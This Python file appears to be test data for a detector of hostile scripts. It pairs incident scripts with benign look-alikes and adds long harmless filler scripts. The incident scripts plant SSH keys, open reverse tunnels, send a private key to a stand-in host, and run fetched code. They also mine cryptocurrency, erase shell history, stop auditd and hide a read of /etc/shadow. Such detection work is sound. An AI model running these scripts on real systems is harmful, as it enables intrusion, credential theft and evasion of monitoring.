"""Incidents in Python, each with a twin, and long harmless scripts in which nothing adds up."""

from __future__ import annotations

PAIRS: dict[str, tuple[str, str]] = {
    "key-planted-and-tunnel": (
        """
import pathlib, subprocess
keys = pathlib.Path.home() / ".ssh/authorized_keys"
with keys.open("a") as out:
    out.write(pathlib.Path("k.pub").read_text())
subprocess.Popen(["ssh", "-N", "-R", "2222:localhost:22", "ops@203.0.113.5"])
""",
        """
import pathlib, subprocess
subprocess.run(["ssh-keygen", "-t", "ed25519", "-N", "", "-f", str(pathlib.Path.home() / ".ssh/deploy")], check=True)
subprocess.Popen(["ssh", "-N", "-L", "5432:db.example:5432", "ops@203.0.113.5"])
""",
    ),
    "tunnel-kept-alive": (
        """
import subprocess
table = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
table += "@reboot ssh -f -N -R 2222:localhost:22 ops@203.0.113.5\\n"
subprocess.run(["crontab", "-"], input=table, text=True)
subprocess.run("ssh -f -N -R 2222:localhost:22 ops@203.0.113.5", shell=True)
""",
        """
import subprocess
table = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
print([line for line in table.splitlines() if "ssh" in line])
subprocess.run("ssh -f -N -L 8080:localhost:80 ops@203.0.113.5", shell=True)
""",
    ),
    "metadata-credentials-used": (
        """
import boto3, requests
base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
role = requests.get(base + "node").json()
boto3.client("ec2").run_instances(ImageId="ami-0abc", InstanceType="t3.xlarge", MinCount=1, MaxCount=4)
""",
        """
import boto3, requests
print(requests.get("http://169.254.169.254/latest/meta-data/instance-type").text)
print(boto3.client("ec2").describe_instances())
""",
    ),
    "miner-covered-up": (
        """
import os, subprocess
subprocess.Popen(["./xmrig", "-o", "203.0.113.9:3333", "-u", "worker"], stdout=subprocess.DEVNULL)
os.remove(os.path.expanduser("~/.bash_history"))
""",
        """
import os, subprocess
subprocess.run(["pkill", "-f", "xmrig"])
os.remove("/tmp/xmrig.log")
""",
    ),
    "gpus-taken-for-mining": (
        """
import os, subprocess
subprocess.run(["pkill", "-STOP", "-f", "train.py"])
os.environ["CUDA_VISIBLE_DEVICES"] = "0,1,2,3,4,5,6,7"
subprocess.Popen(["./t-rex", "-a", "kawpow", "-o", "stratum+tcp://203.0.113.9:3333", "-u", "worker"])
""",
        """
import os, subprocess
subprocess.run(["pkill", "-f", "train.py"])
os.environ["CUDA_VISIBLE_DEVICES"] = "0,1,2,3,4,5,6,7"
subprocess.Popen(["torchrun", "--nproc_per_node", "8", "train.py"])
""",
    ),
    "miner-fetched-and-built": (
        """
import subprocess
subprocess.run(["git", "clone", "https://github.com/xmrig/xmrig", "/tmp/.x"], check=True)
subprocess.run(["cmake", "-S", "/tmp/.x", "-B", "/tmp/.x/build"], check=True)
subprocess.run(["make", "-C", "/tmp/.x/build", "-j"], check=True)
""",
        """
import pathlib, subprocess
subprocess.run(["git", "clone", "https://github.com/xmrig/xmrig", "samples/xmrig"], check=True)
for path in pathlib.Path("samples/xmrig/src").rglob("*.h"):
    print(path, "donate" in path.read_text())
""",
    ),
    "secrets-read-and-sent": (
        """
import pathlib, requests
key = pathlib.Path.home().joinpath(".ssh/id_ed25519").read_text()
requests.post("http://203.0.113.9:8000/", data={"k": key})
""",
        """
import pathlib, requests
key = pathlib.Path.home().joinpath(".ssh/id_ed25519.pub").read_text()
requests.post("https://keys.example/api/v1/keys", data={"k": key})
""",
    ),
    "fetched-code-kept": (
        """
import pathlib, subprocess, urllib.request
exec(urllib.request.urlopen("http://203.0.113.9/i.py").read())
with open(pathlib.Path.home() / ".bashrc", "a") as out:
    out.write("curl -fsSL http://203.0.113.9/i.sh | bash\\n")
""",
        """
import pathlib, urllib.request
urllib.request.urlretrieve("https://files.example/report.csv", "report.csv")
with open("run.sh", "a") as out:
    out.write("python report.py report.csv\\n")
""",
    ),
    "guards-down-and-code-in": (
        """
import subprocess, urllib.request
subprocess.run(["systemctl", "stop", "auditd"])
exec(urllib.request.urlopen("http://203.0.113.9/i.py").read())
""",
        """
import subprocess, urllib.request
subprocess.run(["systemctl", "stop", "nginx"])
urllib.request.urlretrieve("https://files.example/site.tar.gz", "site.tar.gz")
subprocess.run(["systemctl", "start", "nginx"])
""",
    ),
    "hidden-and-minded": (
        """
import base64, os
os.system(base64.b64decode("Y2F0IC9ldGMvc2hhZG93").decode())
""",
        """
import base64, os
os.system(base64.b64decode("bHMgLWxhIC90bXA=").decode())
""",
    ),
    "payout-address-at-pool": (
        """
import socket, subprocess
socket.create_connection(("xmr-eu1.example", 3333))
subprocess.Popen(["./indexd", "--owner",
    "46tnJM35e26cuC5pfxbfzzL9HXXTb1GmuULPRCoCDZ5TWxF78nkULNeYzcKcdnBkWDgkvh9iJnwkV5BvaXTdPzaK2LsYf66"])
""",
        """
import socket, subprocess
socket.create_connection(("xmr-eu1.example", 443))
subprocess.Popen(["./indexd", "--owner",
    "46tnJM35e26cuC5pfxbfzzL9HXXTb1GmuULPRCoCDZ5TWxF78nkULNeYzcKcdnBkWDgkvh9iJnwkV5BvaXTdPzaK2LsYf66"])
""",
    ),
    "addresses-swept": (
        """
import socket
for number in range(1, 255):
    probe = socket.socket()
    probe.settimeout(0.2)
    print(number, probe.connect_ex((f"10.0.0.{number}", 22)))
""",
        """
import socket
for port in range(8000, 8030):
    probe = socket.socket()
    print(port, probe.connect_ex(("127.0.0.1", port)))
for host in ("10.0.0.11", "10.0.0.12", "10.0.0.13"):
    print(host, socket.socket().connect_ex((host, 22)))
""",
    ),
}
"""By the incident: a script that is one, and one that looks alike."""

_FILLER = "\n".join(f"echo 'step {number}'\nmake -C parts/{number} all" for number in range(40))

COINCIDENCES: dict[str, str] = {
    "a deploy key made here, a forward to a database there": f"""
ssh-keygen -t ed25519 -N '' -f ~/.ssh/deploy
ssh-copy-id -i ~/.ssh/deploy.pub deploy@web.example
{_FILLER}
ssh -f -N -L 5432:db.example:5432 ops@bastion.example
""",
    "a job of cron that copies, a tunnel that is only local": f"""
cat > /srv/app/cron/backup <<'JOB'
0 3 * * * root rsync -a /srv/data ops@203.0.113.5:/backup
JOB
{_FILLER}
ssh -f -N -L 9090:prometheus.example:9090 ops@bastion.example
""",
    "miners ended, history read, logs rotated": f"""
pkill -x xmrig
{_FILLER}
tail -n 50 ~/.bash_history > evidence.txt
journalctl --vacuum-time=30d
""",
    "GPUs limited, own training ended, a detector's list of pools": f"""
nvidia-smi -pl 300
pkill -u "$USER" -f train.py
{_FILLER}
cat > pools.txt <<'LIST'
pool.supportxmr.com:3333
stratum+tcp://xmr.2miners.com:2222
LIST
torchrun --nproc_per_node 8 train.py
""",
    "the metadata service asked for the region, machines listed, a bucket filled": f"""
curl -s http://169.254.169.254/latest/meta-data/placement/region
{_FILLER}
aws ec2 describe-instances --output table
aws s3 sync results/ s3://team-results/run-7/
""",
    "a service stopped, an installer that its project publishes": f"""
systemctl stop nginx
{_FILLER}
curl -LsSf https://astral.sh/uv/install.sh | sh
systemctl start nginx
""",
    "encoded settings here, the hosts file there": f"""
echo 'ZGVidWc9dHJ1ZQ==' | base64 -d > settings.ini
{_FILLER}
echo '127.0.0.1 api.local' | sudo tee -a /etc/hosts
""",
    "twelve services of one's own checked": f"""
for host in 10.0.0.11 10.0.0.12 10.0.0.13 10.0.0.14; do
  for port in 22 80 443; do nc -z -w1 $host $port || echo "$host $port"; done
done
{_FILLER}
""",
}
"""Long harmless scripts: nothing in them adds up."""
